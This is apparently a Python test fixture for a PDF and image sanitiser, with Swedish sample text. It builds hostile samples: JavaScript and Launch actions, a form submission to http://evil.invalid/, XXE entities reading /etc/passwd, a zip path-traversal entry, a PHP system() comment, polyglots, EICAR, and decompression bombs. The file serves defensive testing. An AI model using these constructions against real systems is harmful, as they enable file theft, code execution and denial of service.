"""Hostile files, each made anew: what is done to a PDF that acts, reaches out, carries, swells, lies or breaks."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

from tests.browser.papers import pdf_bytes

MARK = "evilmark"
"""Stands in every active thing: found nowhere in a clean copy."""
JS = f"app.alert('{MARK}');this.submitForm('http://evil.invalid/')"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

Make = Callable[[pikepdf.Pdf], object]


def saved(pdf: pikepdf.Pdf, **how) -> bytes:
    made = io.BytesIO()
    pdf.save(made, **how)
    return made.getvalue()


def changed(make: Make, **how) -> bytes:
    """A sound PDF of two pages with text, and then what ``make`` does to it."""
    with pikepdf.open(io.BytesIO(pdf_bytes("Handling som ska synas", 2))) as pdf:
        make(pdf)
        return saved(pdf, **how)


def js(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(JS)))


def js_stream(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=pdf.make_stream(JS.encode())))


def act(kind: str, **more) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **more)


def file_spec(pdf: pikepdf.Pdf, data: bytes = b"MZ evilmark") -> pikepdf.Object:
    inside = Stream(pdf, data)
    inside.Type = Name.EmbeddedFile
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String(f"{MARK}.exe"), UF=String(f"{MARK}.exe"), EF=Dictionary(F=inside))
    )


def remote(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return Dictionary(Type=Name.Filespec, FS=Name.URL, F=String(f"http://{MARK}.invalid/x"))


def annotate(pdf: pikepdf.Pdf, subtype: str, **more) -> None:
    annotation = Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=Array([0, 0, 99, 99]), **more)
    pdf.pages[0].obj["/Annots"] = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))


def names(pdf: pikepdf.Pdf, tree: str, value: pikepdf.Object) -> None:
    pdf.Root.Names = Dictionary({f"/{tree}": Dictionary(Names=Array([String(MARK), value]))})


def root(pdf: pikepdf.Pdf, key: str, value) -> None:
    pdf.Root[f"/{key}"] = value


def page(pdf: pikepdf.Pdf, key: str, value) -> None:
    pdf.pages[0].obj[f"/{key}"] = value


def xobject(pdf: pikepdf.Pdf, subtype: str, **more) -> None:
    thing = Stream(pdf, b"% form")
    thing.Type, thing.Subtype = Name.XObject, Name(f"/{subtype}")
    thing.BBox = Array([0, 0, 9, 9])
    for key, value in more.items():
        thing[f"/{key}"] = value
    pdf.pages[0].obj.Resources.XObject = Dictionary(X1=thing)


def external_stream(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Contents["/F"] = String(f"/etc/{MARK}")
    pdf.pages[0].obj.Contents["/FFilter"] = Name.FlateDecode


def field(pdf: pikepdf.Pdf, **more) -> None:
    one = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("f"), Rect=Array([0, 0, 9, 9]), **more)
    )
    pdf.pages[0].obj["/Annots"] = Array([one])
    pdf.Root.AcroForm = Dictionary(Fields=Array([one]), CO=Array([one]))


def xfa(pdf: pikepdf.Pdf) -> None:
    field(pdf)
    body = f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><xdp>&e;{MARK}</xdp>".encode()
    pdf.Root.AcroForm.XFA = Array([String("template"), pdf.make_stream(body)])


def outline(pdf: pikepdf.Pdf) -> None:
    item = pdf.make_indirect(Dictionary(Title=String("Kapitel"), A=act("Launch", F=String(f"{MARK}.exe"))))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = pdf.Root.Outlines


def chained(pdf: pikepdf.Pdf) -> None:
    """A harmless action with a harmful one after it, and one after that in an array."""
    last = act("Launch", F=String(MARK))
    following = pdf.make_indirect(Dictionary(S=Name.Named, N=Name.NextPage, Next=Array([last, js(pdf)])))
    go = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=following)
    annotate(pdf, "Link", A=go)


def xmp(pdf: pikepdf.Pdf) -> None:
    data = Stream(pdf, f"<!DOCTYPE r [<!ENTITY x SYSTEM 'http://{MARK}.invalid'>]><r>&x;</r>".encode())
    data.Type, data.Subtype = Name.Metadata, Name.XML
    pdf.Root.Metadata = data


def unknown_action(pdf: pikepdf.Pdf) -> None:
    annotate(pdf, "Link", A=Dictionary(S=Name("/Invented"), Do=String(MARK)))


def odd_names(pdf: pikepdf.Pdf) -> None:
    """Names written with hexadecimal escapes (``/J#61vaScript``) are the same names to a reader."""
    root(pdf, "OpenAction", js(pdf))


def rich(pdf: pikepdf.Pdf) -> None:
    content = Dictionary(Assets=Dictionary(Names=Array([String(MARK), file_spec(pdf)])))
    annotate(pdf, "RichMedia", RichMediaContent=content)


def portfolio(pdf: pikepdf.Pdf) -> None:
    root(pdf, "Collection", Dictionary(View=Name.D, X=String(MARK)))
    names(pdf, "EmbeddedFiles", file_spec(pdf))


ACTIVE: dict[str, bytes] = {
    "javascript at opening": changed(lambda p: root(p, "OpenAction", js(p))),
    "javascript in a stream": changed(lambda p: root(p, "OpenAction", js_stream(p))),
    "javascript by name": changed(lambda p: names(p, "JavaScript", js(p))),
    "javascript at closing": changed(lambda p: root(p, "AA", Dictionary(WC=js(p)))),
    "javascript at a page": changed(lambda p: page(p, "AA", Dictionary(O=js(p), C=js(p)))),
    "javascript in a link": changed(lambda p: annotate(p, "Link", A=js(p))),
    "javascript in a field": changed(lambda p: field(p, AA=Dictionary(K=js(p), C=js(p)), A=js(p))),
    "javascript with escaped names": changed(odd_names).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53"),
    "javascript in object streams": changed(
        lambda p: root(p, "OpenAction", js(p)), object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
    "javascript behind other actions": changed(chained),
    "javascript in a rendition": changed(
        lambda p: annotate(p, "Screen", A=act("Rendition", JS=String(JS), OP=0)),
    ),
    "launch a program": changed(lambda p: root(p, "OpenAction", act("Launch", F=String(f"{MARK}.exe")))),
    "launch by windows": changed(
        lambda p: annotate(p, "Link", A=act("Launch", Win=Dictionary(F=String("cmd.exe"), P=String(MARK))))
    ),
    "launch from an outline": changed(outline),
    "submit a form": changed(lambda p: field(p, A=act("SubmitForm", F=remote(p)))),
    "import data": changed(lambda p: field(p, A=act("ImportData", F=String(f"{MARK}.fdf")))),
    "reset a form": changed(lambda p: field(p, A=act("ResetForm", X=String(MARK)))),
    "go to another file": changed(lambda p: annotate(p, "Link", A=act("GoToR", F=String(rf"\\evil\{MARK}"), D=0))),
    "go to an embedded file": changed(lambda p: annotate(p, "Link", A=act("GoToE", T=Dictionary(N=String(MARK))))),
    "link to the web": changed(lambda p: annotate(p, "Link", A=act("URI", URI=String(f"http://{MARK}.invalid/")))),
    "base address": changed(lambda p: root(p, "URI", Dictionary(Base=String(f"http://{MARK}.invalid/")))),
    "web by a previous action": changed(lambda p: annotate(p, "Link", PA=act("URI", URI=String(f"http://{MARK}/")))),
    "thread of another file": changed(lambda p: annotate(p, "Link", A=act("Thread", F=String(MARK), D=0))),
    "hide a field": changed(lambda p: root(p, "OpenAction", act("Hide", T=String(MARK)))),
    "layers by action": changed(lambda p: root(p, "OpenAction", act("SetOCGState", State=Array([String(MARK)])))),
    "an action nobody knows": changed(unknown_action),
    "a named action that prints": changed(
        lambda p: annotate(p, "Link", A=Dictionary(S=Name.Named, N=Name("/Print"), X=String(MARK)))
    ),
    "xfa form with an entity": changed(xfa),
    "xmp with an entity": changed(xmp, fix_metadata_version=False),
    "embedded file": changed(lambda p: names(p, "EmbeddedFiles", file_spec(p))),
    "embedded pdf with javascript": changed(
        lambda p: names(p, "EmbeddedFiles", file_spec(p, changed(lambda q: root(q, "OpenAction", js(q)))))
    ),
    "associated file": changed(lambda p: root(p, "AF", Array([file_spec(p)]))),
    "associated file of a page": changed(lambda p: page(p, "AF", Array([file_spec(p)]))),
    "file as an annotation": changed(lambda p: annotate(p, "FileAttachment", FS=file_spec(p))),
    "portfolio": changed(portfolio),
    "rich media": changed(rich),
    "sound": changed(lambda p: annotate(p, "Sound", Sound=Stream(p, MARK.encode()))),
    "movie": changed(lambda p: annotate(p, "Movie", Movie=Dictionary(F=String(MARK)))),
    "three dimensions": changed(lambda p: annotate(p, "3D", **{"3DD": Stream(p, MARK.encode())})),
    "an annotation nobody knows": changed(lambda p: annotate(p, "Invented", X=String(MARK))),
    "stream in another file": changed(external_stream),
    "reference to another pdf": changed(lambda p: xobject(p, "Form", Ref=Dictionary(F=String(MARK), Page=0))),
    "opi proxy": changed(lambda p: xobject(p, "Form", OPI=Dictionary({"/2.0": Dictionary(F=String(MARK))}))),
    "postscript in the page": changed(lambda p: xobject(p, "PS", Level1=Stream(p, MARK.encode()))),
    "alternate image": changed(
        lambda p: xobject(p, "Form", Alternates=Array([Dictionary(Image=Stream(p, MARK.encode()))]))
    ),
    "private data": changed(lambda p: page(p, "PieceInfo", Dictionary(Evil=Dictionary(Private=String(MARK))))),
    "templates by name": changed(lambda p: names(p, "Templates", js(p))),
    "pages of the web by name": changed(lambda p: names(p, "URLS", remote(p))),
    "alternate presentation": changed(lambda p: names(p, "AlternatePresentations", Dictionary(X=String(MARK)))),
    "unknown in the catalogue": changed(lambda p: root(p, "Invented", js(p))),
    "unreferenced javascript": changed(js),
}  # fmt: skip
"""Accepted; in the clean copy what acts is gone and the text is there."""


def zipped() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("../../evil.sh", MARK)
    return made.getvalue()


HTML = f"<html><script>alert('{MARK}')</script><!--".encode()
POLYGLOTS: dict[str, bytes] = {
    "pdf with a zip after": pdf_bytes("Handling som ska synas", 2) + zipped(),
    "pdf with html after": pdf_bytes("Handling som ska synas", 2) + b"\n" + HTML,
    "pdf with a program after": pdf_bytes("Handling som ska synas", 2) + b"\x7fELF" + MARK.encode(),
    "pdf with html in a comment": pdf_bytes("Handling som ska synas", 2).replace(b"\n", b"\n%" + HTML + b"\n", 1),
    "pdf updated with javascript": changed(lambda p: None)
    + b"\n9000 0 obj\n<</S/JavaScript/JS(" + MARK.encode() + b")>>\nendobj\n%%EOF\n",
}  # fmt: skip
"""Accepted: two kinds of file at once; the clean copy is a PDF and nothing else."""


def picture(kind: str, size: tuple[int, int] = (40, 30), **how) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", size, "white").save(made, kind, **how)
    return made.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A PNG that says that it is so large; all its rows are nothing."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(10_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


PICTURES: dict[str, bytes] = {
    "jpeg with javascript after": picture("JPEG") + f"<script>{MARK}</script>".encode(),
    "jpeg with php in a comment": picture("JPEG", comment=f"<?php system('{MARK}');".encode()),
    "png with a zip after": picture("PNG") + zipped(),
    "png with a pdf after": picture("PNG") + changed(lambda p: root(p, "OpenAction", js(p))),
    "tiff with a text in a tag": picture("TIFF", tiffinfo={270: MARK}),
}
"""Accepted: pictures with something else in or after them; the copy is pixels."""

AT_ONCE: dict[str, tuple[str, bytes]] = {
    "svg with a script": (
        "bild.svg",
        f"<svg xmlns='http://www.w3.org/2000/svg'><script>{MARK}</script></svg>".encode(),
    ),
    "svg called png": ("bild.png", f"<svg xmlns='http://www.w3.org/2000/svg' onload='{MARK}'/>".encode()),
    "xml with an entity": ("brev.xml", b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"),
    "xml with a billion laughs": ("brev.pdf", b"<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>]><x>&b;</x>"),
    "eicar": ("eicar.com", EICAR),
    "eicar called pdf": ("eicar.pdf", EICAR),
    "eicar in a zip": ("eicar.zip", zipped()),
    "html before a pdf": ("brev.pdf", HTML + pdf_bytes()),
    "gif with javascript and a pdf": ("bild.pdf", b"GIF89a/*" + pdf_bytes() + b"*/=1;alert(1)"),
    "gif": ("bild.gif", picture("GIF")),
    "zip before a pdf": ("brev.pdf", zipped() + pdf_bytes()),
    "program called pdf": ("brev.pdf", b"MZ\x90\x00" + pdf_bytes()),
    "word called pdf": ("brev.pdf", zipped()),
    "pdf called png": ("bild.png", pdf_bytes()),
    "png called pdf": ("brev.pdf", picture("PNG")),
    "pdf called exe": ("faktura.pdf.exe", pdf_bytes()),
    "postscript": ("brev.pdf", b"%!PS-Adobe-3.0\n(%PDF-) run"),
    "nothing": ("tom.pdf", b""),
}
"""Refused by the web itself, before anything is stored: name, content."""


def locked(**how) -> bytes:
    return changed(lambda p: None, encryption=pikepdf.Encryption(**how))


def swollen(block: bytes, times: int, head: bytes = b"") -> bytes:
    """The head and so many of the block, packed; a block that stands for itself is packed once and repeated."""
    machine = zlib.compressobj(9)
    data = machine.compress(head) + machine.flush(zlib.Z_FULL_FLUSH)
    data += (machine.compress(block) + machine.flush(zlib.Z_FULL_FLUSH)) * times
    check = zlib.adler32(head)
    for _ in range(times):
        check = zlib.adler32(block, check)
    return data + b"\x03\x00" + struct.pack(">I", check)


def stream_bomb(levels: int = 1, size: int = 600_000_000) -> bytes:
    """A page whose text unpacks to 600 MB, packed once, twice or three times."""
    data = swollen(bytes(10_000_000), size // 10_000_000)
    for _ in range(levels - 1):
        data = zlib.compress(data, 9)

    def make(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.Contents.write(data, filter=Array([Name.FlateDecode] * levels))

    return changed(make, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def many_bombs() -> bytes:
    """A hundred streams, each of a size that one may have."""
    data = zlib.compress(bytes(10_000_000), 9)

    def make(pdf: pikepdf.Pdf) -> None:
        things = []
        for _ in range(100):
            thing = Stream(pdf, b"")
            thing.write(data, filter=Name.FlateDecode)
            things.append(pdf.make_indirect(thing))
        pdf.pages[0].obj.Resources.Properties = Dictionary({f"/P{i}": t for i, t in enumerate(things)})

    return changed(make, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def image_in_pdf(width: int, height: int, data: bytes) -> bytes:
    def make(pdf: pikepdf.Pdf) -> None:
        image = Stream(pdf, b"")
        image.write(data, filter=Name.FlateDecode)
        image.Type, image.Subtype, image.ColorSpace = Name.XObject, Name.Image, Name.DeviceRGB
        image.Width, image.Height, image.BitsPerComponent = width, height, 8
        pdf.pages[0].obj.Resources.XObject = Dictionary(I1=image)

    return changed(make, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def object_stream_bomb() -> bytes:
    """The catalogue stands in an object stream that unpacks to 3 GB."""
    data = swollen(b" " * 10_000_000, 300, b"1 0 << /Type /Catalog /Pages 2 0 R >>")
    out = bytearray(b"%PDF-1.5\n")
    at = {}
    at[2] = len(out)
    out += b"2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    at[3] = len(out)
    out += b"3 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(data)
    out += data + b"\nendstream\nendobj\n"
    at[4] = len(out)
    rows = [(0, 0, 255), (2, 3, 0), (1, at[2], 0), (1, at[3], 0), (1, at[4], 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    out += b"4 0 obj\n<</Type/XRef/Size 5/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at[4]
    return bytes(out)


def page_loop() -> bytes:
    """A page tree that holds itself."""
    sound = changed(lambda p: None, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    with pikepdf.open(io.BytesIO(sound)) as pdf:
        number = pdf.Root.Pages.objgen[0]
    return sound.replace(b"/Kids [ ", b"/Kids [ %d 0 R " % number)


def deep(levels: int = 100_000) -> bytes:
    body = b"[" * levels + b"]" * levels
    return (
        b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/X "
        + body
        + b">>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>"
        b"\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"
    )


def many_pages() -> bytes:
    with pikepdf.new() as pdf:
        for _ in range(2001):
            pdf.add_blank_page()
        return saved(pdf)


def many_objects() -> bytes:
    """Text that takes for ever to read: a page of a million words, shown over and over."""

    def make(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.Contents.write(b"BT /F1 1 Tf " + b"(a) Tj " * 3_000_000 + b"ET")

    return changed(make)


SOUND = pdf_bytes("Handling som ska synas", 2)
REFUSED: dict[str, tuple[set[str], Callable[[], bytes]]] = {
    "locked for reading": ({"encrypted"}, lambda: locked(user="a", owner="b")),
    "locked for changing": ({"encrypted"}, lambda: locked(user="", owner="b")),
    "locked the old way": ({"encrypted"}, lambda: locked(user="", owner="b", R=3, aes=False, metadata=False)),
    "cut in the middle": ({"damaged"}, lambda: SOUND[: len(SOUND) // 2]),
    "cut at its end": ({"damaged"}, lambda: SOUND[:-40]),
    "its head alone": ({"damaged"}, lambda: b"%PDF-1.7\n"),
    "its head and noise": ({"damaged"}, lambda: b"%PDF-1.7\n" + bytes(range(256)) * 1000),
    "no pages": ({"empty", "damaged"}, lambda: saved(pikepdf.new())),
    "too many pages": ({"pages"}, many_pages),
    "page tree that holds itself": ({"damaged", "limits"}, page_loop),
    "a hundred thousand brackets": ({"damaged", "empty", "unpacked", "limits"}, deep),
    "text that swells": ({"unpacked"}, stream_bomb),
    "text that swells twice": ({"unpacked"}, lambda: stream_bomb(2)),
    "text that swells three times": ({"unpacked"}, lambda: stream_bomb(3)),
    "many that swell a little": ({"unpacked"}, many_bombs),
    "objects that swell": ({"unpacked", "damaged", "empty", "limits"}, object_stream_bomb),
    "image of too many pixels": ({"pixels"}, lambda: image_in_pdf(100_000, 100_000, b"x")),
    "image that is larger than it says": (
        {"unpacked"}, lambda: image_in_pdf(10, 10, zlib.compress(bytes(50_000_000), 9))
    ),
    "png of too many pixels": ({"pixels"}, lambda: png_of(50_000, 50_000)),
    "png that lies": ({"image", "pixels"}, lambda: b"\x89PNG\r\n\x1a\n then nothing"),
    "jpeg cut in the middle": ({"image"}, lambda: picture("JPEG", (400, 300), quality=95)[:700]),
    "tiff that points at itself": ({"image"}, lambda: b"II*\x00\x08\x00\x00\x00\x00\x00\x08\x00\x00\x00"),
}  # fmt: skip
"""Refused by the worker: the codes that it may give, and the file."""

SLOW_BUT_SOUND: dict[str, Callable[[], bytes]] = {"text that takes for ever": many_objects}


def counts() -> dict[str, int]:
    """How many hostile files there are, by what becomes of them."""
    return {
        "active": len(ACTIVE),
        "polyglots": len(POLYGLOTS),
        "pictures": len(PICTURES),
        "refused at once": len(AT_ONCE),
        "refused by the worker": len(REFUSED),
    }
